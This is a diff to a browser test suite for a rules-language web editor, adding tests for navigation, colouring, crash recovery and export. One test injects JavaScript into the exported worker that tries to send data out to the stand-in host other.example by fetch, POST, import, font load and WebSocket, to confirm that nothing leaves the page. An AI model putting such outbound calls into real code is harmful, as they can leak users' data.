@@ -1,13 +1,15 @@
 """The built page in a headless browser: it says what the package says, nothing leaves it, everybody can use it."""
 
 import base64
+import functools
 import gzip
 import json
 import threading
 import time
 import zlib
 from contextlib import contextmanager
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
+from typing import ClassVar
 
 import pytest
 from rulelang_studio import STATIC
@@ -17,7 +19,7 @@ import rulelang
 from rulelang.base.files import data_folder
 from rulelang.tools.studio import server as servers
 from rulelang.tools.studio.shared_folder import SharedFolder
-from rulelang.tools.studio.site import find_site
+from rulelang.tools.studio.site import export, find_site
 from tests.report.browser import browser, lacking
 from tests.studio.conftest import serving
 from tests.studio.test_desk import texts
@@ -149,12 +151,14 @@ def example(page, name):
     page.settle()
 
 
-def test_it_is_as_small_as_promised():
-    sizes = {path.name: len(gzip.compress(path.read_bytes(), 6)) for path in STATIC.rglob("*") if path.is_file()}
-    first = (
-        "app.js worker.js index.html page.css bundle.zip pyodide.mjs pyodide.asm.mjs pyodide.asm.wasm python_stdlib.zip"
-    )
-    assert sum(sizes[name] for name in (*first.split(), "pyodide-lock.json", "index.json")) <= 10_500_000
+def test_it_is_as_small_as_promised(opened):
+    opened.seen.clear()
+    opened.open("?plain")
+    asked = [name or "index.html" for _, name, _ in opened.seen if name != "folder.json"]
+    assert {"app.js", "bundle.zip", "pyodide/pyodide.asm.wasm"} <= set(asked)
+    assert "memory.bin" not in asked
+    assert sum(len(gzip.compress((STATIC / name).read_bytes(), 6)) for name in asked) <= 10_500_000
+    opened.open()
 
 
 def test_who_pays_is_what_the_package_says(page):
@@ -244,7 +248,7 @@ def test_tests_and_what_they_reach_are_told(page):
 
 def test_a_history_is_told_day_by_day(page):
     example(page, "krx-hanmag")
-    page.js("studio.state.right === 'hanmag.history' || console.error('no history')")
+    assert page.js("return studio.state.right") == "hanmag.history"
     assert "HanMag" in page.tab("pays")
     assert page.js("return document.querySelectorAll('#panel-pays table').length") > 0
 
@@ -301,6 +305,47 @@ def test_names_are_offered_found_and_changed_everywhere(page):
     assert "given first_capital" in texts["events/third-default.event"]
     assert "given junior_capital" in texts["events/interim-november.event"], "that one is of another rulebook"
     assert "Problems (1)" in page.text("#tab-problems")
+
+
+def test_the_parts_of_a_text_are_gone_to(page):
+    page.click("#left-outline")
+    page.until("document.getElementById('dialog').open")
+    parts = page.text("#dialog").split("\n")
+    assert any(part.startswith("fund_draw") for part in parts)
+    press(page, "fund_draw")
+    assert line(page, "left").strip().startswith("tranche fund_draw")
+    assert page.js("return document.getElementById('dialog').open") is False
+
+
+def test_the_uses_of_a_name_are_gone_to(page):
+    from selenium.webdriver.common.action_chains import ActionChains
+    from selenium.webdriver.common.keys import Keys
+
+    at(page, "left", "given junior_capital", 8)
+    ActionChains(page.driver).key_down(Keys.SHIFT).send_keys(Keys.F12).key_up(Keys.SHIFT).perform()
+    page.until("document.getElementById('dialog').open")
+    told = page.text("#dialog")
+    assert "given junior_capital : money" in told
+    assert "events/third-default.event" in told
+    press(page, "events/third-default.event")
+    page.until("studio.editors.right.name === 'events/third-default.event'")
+    assert "junior_capital" in line(page, "right")
+
+
+def test_words_are_coloured_by_what_they_are_and_amounts_stand_beside_steps(page):
+    page.until("document.querySelector('#left .amount')")
+    beside = page.js(
+        "return [...document.querySelectorAll('#left .amount')].map((each) => each.closest('.cm-line').innerText)"
+    )
+    assert any("tranche fund_draw" in each and "107,000,000" in each for each in beside)
+    assert "107,000,000" not in page.js("return studio.editors.left.text")
+    words = "return [...document.querySelectorAll('#left .is-method')].map((each) => each.innerText)"
+    assert "fund_draw" in page.js(words)
+    page.write("left", page.js("return studio.editors.left.text").replace("fund_draw", "draw_fund"))
+    page.settle()
+    assert "draw_fund" in page.js(words)
+    page.js("const v = studio.editors.left.view; v.dispatch({selection: {anchor: 0}}); v.focus()")
+    assert page.js("return document.querySelectorAll('#left .cm-foldGutter span[title=\"Fold line\"]').length") > 0
 
 
 def test_a_link_carries_everything(page):
@@ -430,9 +475,11 @@ def test_too_much_text_is_refused_kindly(page):
 def test_a_runtime_that_fails_starts_again_and_no_text_is_lost(page):
     page.write("left", page.js("return studio.editors.left.text") + "# mine\n")
     page.settle()
-    page.js("studio.engine.worker.postMessage({number: 1, question: {ask: 'unzip', data: null, files: 1n}})")
-    page.js("studio.engine.hear({kind: 'fatal', words: 'memory access out of bounds'})")
-    assert page.js("return studio.engine.ready") is False
+    deep = "let deep = []; for (let n = 0; n < 100_000; n += 1) deep = [deep];"
+    broken = f"{deep} studio.engine.ask({{ask: 'unzip', data: deep}}).catch((error) => (window.broken = error.message))"
+    page.js(broken)
+    page.until("!studio.engine.ready")
+    assert "Your texts are as they were" in page.until("window.broken")
     page.write("left", page.js("return studio.editors.left.text") + "# meanwhile\n")
     page.until("studio.engine.ready", seconds=START)
     page.settle()
@@ -470,6 +517,46 @@ def test_the_proxy_would_have_seen_it(opened):
     opened.open()
     hosts = {each.split("/")[2] for each in opened.others if each.startswith("GET http")}
     assert {host for host in hosts if not host.endswith(".google.com")} == {"control.example"}  # the browser's own
+
+
+class _Plain(SimpleHTTPRequestHandler):
+    """Any web server: it sends files, and nothing along with them."""
+
+    extensions_map: ClassVar[dict[str, str]] = {**SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript"}
+
+    def log_message(self, *words):
+        pass
+
+
+@pytest.fixture
+def exported(tmp_path):
+    """A copy of the page on a web server that knows nothing of it; the address."""
+    export(find_site(), tmp_path / "public")
+    handler = functools.partial(_Plain, directory=tmp_path / "public")
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as plain:
+        thread = threading.Thread(target=plain.serve_forever)
+        thread.start()
+        yield tmp_path / "public", f"http://127.0.0.1:{plain.server_port}/"
+        plain.shutdown()
+        thread.join()
+
+
+def test_a_copy_on_any_web_server_lets_nothing_out(page, exported):
+    folder, address = exported
+    tries = (
+        "await Promise.allSettled([() => import('http://other.example/a.mjs'), () => fetch('http://other.example/b'),"
+        "() => fetch('http://other.example/c', { method: 'POST', mode: 'no-cors', body: 'text' }),"
+        "() => new FontFace('x', 'url(http://other.example/d)').load(), () => new Promise((done) => {"
+        "new WebSocket('ws://other.example/e').onerror = done })].map(async (attempt) => attempt()));\n"
+    )
+    worker = folder / "worker.js"
+    worker.write_text(tries + worker.read_text("utf-8"), encoding="utf-8")
+    page.driver.get(address)
+    page.until("window.studio && studio.engine.ready", seconds=START)
+    page.settle()
+    assert "19,337,349.40" in page.tab("pays")
+    assert [each for each in page.others if "other.example" in each] == []
+    page.open()
 
 
 def test_it_works_without_its_server(page):
@@ -573,7 +660,7 @@ def test_files_are_opened_and_made(page, tmp_path):
     field.send_keys("\n".join(str(tmp_path / name) for name in ("a.rules", "b.event", "c.bin")))
     page.until("studio.state.left === 'a.rules' && studio.state.right === 'b.event'")
     assert page.js("return studio.editors.left.text") == "# opened\n"
-    made = page.js("return fetch === undefined") or page.driver.execute_async_script(
+    made = page.driver.execute_async_script(
         "const done = arguments[0];"
         "studio.engine.ask({ask: 'zip', files: Object.fromEntries(studio.state.files)})"
         ".then((a) => done(Array.from(a.told)))"
